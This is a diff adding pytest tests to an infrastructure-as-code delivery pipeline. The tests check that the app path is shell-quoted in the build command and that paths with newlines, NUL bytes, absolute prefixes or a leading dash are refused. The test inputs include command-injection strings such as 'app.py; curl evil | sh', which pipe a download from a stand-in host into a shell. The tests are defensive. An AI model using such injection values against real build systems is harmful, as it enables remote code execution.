@@ -3,6 +3,7 @@ of the same app; what each stage runs, the roles it gets, and the inputs refused
 
 from __future__ import annotations
 
+import shlex
 import sys
 from pathlib import Path
 from typing import Any
@@ -84,6 +85,31 @@ def test_build_synthesizes_the_app_strictly_and_hands_on_the_assembly():
     assert spec["artifacts"] == {"base-directory": "iac.out", "files": ["**/*"]}
     synth = _stages(app, release)[1]["Actions"][0]
     assert (synth["InputArtifacts"], synth["OutputArtifacts"]) == ([{"Name": "Source"}], [{"Name": "Assembly"}])
+
+
+def test_the_app_path_reaches_the_build_shell_as_one_quoted_argument():
+    hostile = "app.py; curl evil | sh"
+    app, release = _delivery(app=hostile)
+
+    command = _build_spec(app, release.build_project)["phases"]["build"]["commands"][0]
+    assert shlex.split(command) == ["iac", "synth", "--app", hostile, "--out", "iac.out", "--format", "json",
+                                    "--strict"]
+
+
+@pytest.mark.parametrize("path, message", [
+    ("app.py\ncurl evil | sh", "one line"),
+    ("app.py\rx", "one line"),
+    ("app\x00.py", "NUL"),
+    ("/etc/app.py", "relative"),
+    ("-x.py", "must not begin with '-'"),
+])
+def test_an_app_path_a_shell_could_misread_is_refused_at_the_users_line(path, message):
+    app, api, delivery = _app()
+
+    with pytest.raises(ConstructError, match=message) as caught:
+        line = _next_line()
+        DeliveryPipeline(delivery, "Release", stack=api, source=_github(), app=path)
+    assert (caught.value.location.file, caught.value.location.line) == (__file__, line)
 
 
 def test_build_publishes_the_assets_and_may_write_only_the_asset_bucket_for_them():
